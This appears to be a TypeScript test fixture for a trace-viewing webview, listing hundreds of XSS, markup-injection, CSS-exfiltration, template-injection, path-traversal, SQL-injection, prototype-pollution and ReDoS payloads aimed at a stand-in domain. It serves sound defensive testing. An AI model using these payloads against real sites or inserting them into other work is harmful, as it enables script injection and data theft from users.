import { marks } from './oddText';

/** Every fifth is enough for an element whose code path is the same for each payload. */
const SAMPLING = 5;

/** For elements that show one payload at a time: a sample, or with `npm test -- --full` all of them. */
export function sampled<T>(items: readonly T[]): readonly T[] {
  return process.env['MLFLOW_TRACES_FULL'] === '1' ? items : items.filter((_, at) => at % SAMPLING === 0);
}

/** A domain that must never be requested or resolved. */
export const HOSTILE = 'hostile.test';

let hosts = 0;
/** Returns a unique host for each payload, so that a DNS lookup identifies the payload. */
const host = (): string => `p${++hosts}.${HOSTILE}`;
const web = (path = ''): string => `https://${host()}/${path}`;
/** Script that leaves a mark in the top window, whichever frame it runs in. */
const RUN = 'top.hostileRan=1;alert(1)';

const scripts = [
  `<script>${RUN}</script>`,
  `<script src="${web('x.js')}"></script>`,
  `<SCRIPT/SRC=//${host()}/x.js>`,
  `<script type=module>import "${web('m.js')}"</script>`,
  `<script>import(\`${web('d.js')}\`)</script>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `</script><script>${RUN}</script>`,
  `<script nonce="c2VjcmV0LWZvci10ZXN0cw">${RUN}</script>`,
  `<noscript><p title="</noscript><script>${RUN}</script>">`,
  `<template><script>${RUN}</script></template>`,
  `<script type="importmap">{"imports":{"a":"${web('a.js')}"}}</script>`,
  `<script type="speculationrules">{"prefetch":[{"urls":["${web('s')}"]}]}</script>`,
  `<!--<img src="--><img src=x onerror=${RUN}//">`,
  `<![CDATA[<script>${RUN}</script>]]>`,
  `<?xml-stylesheet href="javascript:${RUN}"?>`,
  `<script\u0000>${RUN}</script>`,
  `<script/x>${RUN}</script>`,
  `%3Cscript%3E${RUN}%3C/script%3E`,
];

const handlers = [
  'img src=x onerror',
  'img src=x:x onerror',
  'image src=x onerror',
  'svg onload',
  'body onload',
  'body onpageshow',
  'input autofocus onfocus',
  'select autofocus onfocus',
  'textarea autofocus onfocus',
  'button autofocus onfocus',
  'video onloadstart src=x autoplay',
  'audio src=x onerror',
  'video><source onerror',
  'details open ontoggle',
  'marquee onstart',
  'div style="animation:x" onanimationstart',
  'div style="transition:all 1s" ontransitionend',
  'p onpointerover',
  'a onmouseover',
  'dialog open onclose',
  'div popover onbeforetoggle',
  'object data=x onerror',
  'embed src=x onload',
  'iframe onload',
  'style onload',
  'link rel=stylesheet href=x onerror',
  'xss tabindex=1 autofocus onfocus',
  'div contenteditable onbeforeinput',
  'div oncontentvisibilityautostatechange style="content-visibility:auto"',
  'form onformdata',
].map((start) => `<${start}="${RUN}">x`);

const addresses = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  `java\tscript:${RUN}`,
  `java\nscript:${RUN}`,
  `\u0001javascript:${RUN}`,
  `javascript&colon;${RUN}`,
  `&#106;avascript:${RUN}`,
  `javascript://%0a${RUN}`,
  'vbscript:msgbox(1)',
  `data:text/html,<script>${RUN}</script>`,
  `data:text/html;base64,PHNjcmlwdD50b3AuaG9zdGlsZVJhbj0xPC9zY3JpcHQ+`,
  `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="${RUN}"/>`,
  `blob:https://webview.invalid/1`,
  'command:workbench.action.quit',
  'command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22x%22%7D',
  'vscode:extension/evil.extension',
  'vscode-insiders://evil.extension/run',
  'vscode-resource:/etc/passwd',
  'vscode-webview-resource://x/etc/passwd',
  'vscode-file://vscode-app/etc/passwd',
  'file:///etc/passwd',
  `\\\\${host()}\\share`,
  `//${host()}/x`,
  `ftp://${host()}/x`,
  `ws://${host()}/x`,
  `mailto:x@${host()}`,
  'mlflow-attachment://../../etc/passwd',
];

const links = addresses.flatMap((address, index) =>
  index % 2 === 0 ? [address, `<a href="${address}">x</a>`] : [`[x](<${address}>)`, `![i](<${address}>)`],
);

const markup = [
  `<img src="${web('i.png')}">`,
  `<img srcset="${web('i.png')} 1x" src=x>`,
  `<picture><source srcset="${web('i.webp')}"></picture>`,
  `<img src=x style="background:url(${web('b.png')})">`,
  `<body background="${web('b.png')}">`,
  `<table background="${web('t.png')}"><td>x`,
  `<video poster="${web('p.png')}" src="${web('v.mp4')}"></video>`,
  `<audio src="${web('a.mp3')}" autoplay></audio>`,
  `<track src="${web('t.vtt')}">`,
  `<iframe src="${web('f')}"></iframe>`,
  `<iframe srcdoc="<script>${RUN}</script>"></iframe>`,
  `<frameset><frame src="javascript:${RUN}"></frameset>`,
  `<object data="${web('o')}"></object>`,
  `<object type="text/html" data="data:text/html,<script>${RUN}</script>"></object>`,
  `<embed src="${web('e.swf')}">`,
  `<applet code=x codebase="${web('')}"></applet>`,
  `<portal src="${web('p')}"></portal>`,
  `<fencedframe></fencedframe>`,
  `<base href="${web('')}">`,
  `<meta http-equiv=refresh content="0;url=${web('r')}">`,
  `<meta http-equiv="Content-Security-Policy" content="script-src *">`,
  `<meta http-equiv="x-dns-prefetch-control" content="on">`,
  `<link rel=stylesheet href="${web('s.css')}">`,
  `<link rel=prefetch href="${web('p')}">`,
  `<link rel=preload as=script href="${web('p.js')}">`,
  `<link rel=modulepreload href="${web('m.js')}">`,
  `<link rel=preconnect href="${web('')}">`,
  `<link rel=dns-prefetch href="//${host()}">`,
  `<link rel=icon href="${web('favicon.ico')}">`,
  `<link rel=manifest href="${web('m.json')}">`,
  `<a href="${web('a')}" ping="${web('ping')}">x</a>`,
  `<form action="${web('f')}" method=post><input name=q autofocus><button>x</button></form>`,
  `<input type=image src="${web('i.png')}" formaction="${web('f')}">`,
  `<button form=x formaction="javascript:${RUN}">x</button>`,
  `<isindex action="javascript:${RUN}">`,
  `<div id=root></div><div id="acquireVsCodeApi" name="location">`,
  '</textarea></title></style></div></body></html>',
  '"\'><plaintext>',
  '--></div><xmp>',
  `<dialog open>x</dialog><slot name=x><template shadowrootmode=open><img src=${web('s.png')}></template>`,
];

const vectors = [
  `<svg><script>${RUN}</script></svg>`,
  `<svg><script href="${web('x.js')}"/></svg>`,
  `<svg><foreignObject><iframe src="javascript:${RUN}"></iframe></foreignObject></svg>`,
  `<svg><use href="${web('s.svg')}#x"/></svg>`,
  `<svg><use xlink:href="data:image/svg+xml,<svg id='x' onload='${RUN}'/>#x"/></svg>`,
  `<svg><animate onbegin="${RUN}" attributeName=x dur=1s></svg>`,
  `<svg><a><animate attributeName=href values="javascript:${RUN}"/><text>x</text></a></svg>`,
  `<svg><set attributeName=onmouseover to="${RUN}"></svg>`,
  `<svg><image href="${web('i.png')}"/></svg>`,
  `<svg><style>@import "${web('s.css')}"</style></svg>`,
  `<svg><feImage href="${web('f.png')}"/></svg>`,
  `<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">${RUN}</handler></svg>`,
  `<math><maction actiontype="statusline#${web('')}" xlink:href="javascript:${RUN}">x</maction></math>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${RUN}&gt;">`,
  `<svg></p><style><a id="</style><img src=x onerror=${RUN}>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
  `<noscript><style></noscript><img src=x onerror=${RUN}>`,
  `<select><template><img src=x onerror=${RUN}></template></select>`,
  `<table><a href="javascript:${RUN}"><td><a><img src=x onerror=${RUN}>`,
  `<p id="</title><img src=x onerror=${RUN}>"`,
];

const styles = [
  `<style>*{display:none!important}</style>`,
  `<style>@import url(${web('c.css')});</style>`,
  `<style>@font-face{font-family:x;src:url(${web('f.woff')})}*{font-family:x}</style>`,
  `<style>input[value^=a]{background:url(${web('leak')})}</style>`,
  `<div style="position:fixed;inset:0;z-index:9999;background:red">`,
  `<div style="background:url(${web('b.png')})">`,
  `<div style="width:expression(${RUN})">`,
  `<div style="behavior:url(${web('x.htc')});-moz-binding:url(${web('x.xml')})">`,
  `};*{background:url(${web('d.png')})}`,
  `100%;background:url(${web('e.png')})`,
  `var(--x);color:red`,
  `codicon codicon-trash span-row selected`,
  `$(trash) $(sync~spin)`,
];

const markdown = [
  `![i](${web('i.png')})`,
  `![i][r]\n\n[r]: ${web('r.png')} "t"`,
  `[x](${web('l')} "title")`,
  `<${web('auto')}>`,
  web('bare'),
  `www.${host()}`,
  `x@${host()}`,
  `[x]: javascript:${RUN}\n\n[x]`,
  `[![i](${web('n.png')})](javascript:${RUN})`,
  `[x](javascript&#58;${RUN})`,
  `[x](\\javascript:${RUN})`,
  `[<img src=x onerror=${RUN}>](x)`,
  `![<script>${RUN}</script>](x"onerror=${RUN})`,
  `\`\`\`html "onload=${RUN}\n<script>${RUN}</script>\n\`\`\``,
  `<div>\n\n<script>${RUN}</script>\n\n</div>`,
  `<details open><summary>x</summary>\n\n<img src=x onerror=${RUN}>\n\n</details>`,
  `| <img src=x onerror=${RUN}> | [x](command:x) |\n|---|---|\n| <b>x</b> | ![](${web('t.png')}) |`,
  `- [x] <img src=x onerror=${RUN}>\n- [ ] [y](data:text/html,x)`,
  `# <svg onload=${RUN}>\n\n> <iframe src=${web('q')}>`,
  `**<img/src=\`x\`onerror=${RUN}>** ~~<s>~~ *[*](x)*`,
  `\r\n\`\`\`\r[x](command:workbench.action.quit)\r\`\`\``,
  `$$\\href{javascript:${RUN}}{x}$$`,
  `[^1]\n\n[^1]: <img src=x onerror=${RUN}>`,
  `<!-- [x](${web('c')}) -->![](<${web('sp ace.png')}>)`,
];

const entities = [
  `&lt;img src=x onerror=${RUN}&gt;`,
  `&amp;lt;script&amp;gt;${RUN}&amp;lt;/script&amp;gt;`,
  `&#60;svg onload=${RUN}&#62;`,
  `&#x3c;iframe&#x3e;`,
  `\\u003cimg src=x onerror=${RUN}\\u003e`,
  `\\x3cscript\\x3e${RUN}`,
  `%253Cscript%253E`,
  `＜script＞${RUN}＜/script＞`,
  `+ADw-script+AD4-${RUN}`,
  `<a href="&#x6A;&#x61;vascript:${RUN}">`,
];

const templates = [
  '{{constructor.constructor("top.hostileRan=1")()}}',
  '${top.hostileRan=1}',
  '#{7*7}',
  '<%= 7*7 %>',
  '{% raw %}{{7*7}}',
  '[[${7*7}]]',
  '{{7*7}}',
  '{0} {1} %s %d %n',
  "';top.hostileRan=1;//",
  '`;top.hostileRan=1;`',
  '");top.hostileRan=1;("',
  '{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=alert(1)>"}}',
  '{"type":"script","props":{"children":"top.hostileRan=1"},"__k":null}',
  '../../../../etc/passwd',
  '..\\..\\windows\\system32',
  "'; DROP TABLE spans; --",
];

/** Names of built-in object properties. */
export const BORN = [
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  'valueOf',
  'then',
];

/** Texts that make careless regular expressions run forever. */
const patterns = [
  `${'a'.repeat(3_000)}!`,
  `${'['.repeat(1_500)}x`,
  `${'*_'.repeat(1_000)}x`,
  '![a]('.repeat(500),
  `${' '.repeat(5_000)}x`,
  `  File "${'a/'.repeat(2_000)}`,
  `${'`'.repeat(2_001)}x${'`'.repeat(1_999)}`,
  `data:${'image/'.repeat(1_000)};base64,`,
  '<'.repeat(3_000),
  `${'> '.repeat(500)}deep`,
  `${'- '.repeat(200)}deep`,
  '(a+)+$ .* [\\s\\S]*?(?=',
];

const values = [
  `${'['.repeat(300)}${']'.repeat(300)}`,
  `${'{"a":'.repeat(2_000)}1${'}'.repeat(2_000)}`,
  `9${'9'.repeat(400)}`,
  '1e400',
  '-0.0',
  '[NaN, Infinity, -Infinity]',
  '{"__proto__": {"polluted": true}, "constructor": {"prototype": {"polluted": true}}}',
  `{"<img src=x onerror=${RUN}>": "<script>${RUN}</script>"}`,
  `{"role": "<b>", "content": [{"type": "image_url", "image_url": {"url": "${web('chat.png')}"}}]}`,
  `[{"role": "__proto__", "content": null, "tool_calls": [{"id": {}, "function": {"name": [], "arguments": 1}}]}]`,
  `{"type": "image", "source": {"type": "base64", "media_type": "image/svg+xml", "data": "PHN2ZyBvbmxvYWQ9YWxlcnQoMSkvPg=="}}`,
  `{"type": "image", "source": {"type": "url", "url": "javascript:${RUN}"}}`,
  `{"inline_data": {"mime_type": "text/html", "data": "PHNjcmlwdD4="}}`,
  `[{"page_content": "<iframe src=${web('doc')}>", "metadata": {"doc_uri": "command:x", "score": "<b>"}}]`,
  `{"data": [{"object": "embedding", "embedding": [1e999, "<b>", null]}]}`,
  '[["role", "content"], [], {}, ""]',
];

/** Every payload once. */
export const PAYLOADS: readonly string[] = [
  ...scripts,
  ...handlers,
  ...links,
  ...markup,
  ...vectors,
  ...styles,
  ...markdown,
  ...entities,
  ...templates,
  ...BORN,
  ...patterns,
  ...values,
  ...marks,
];
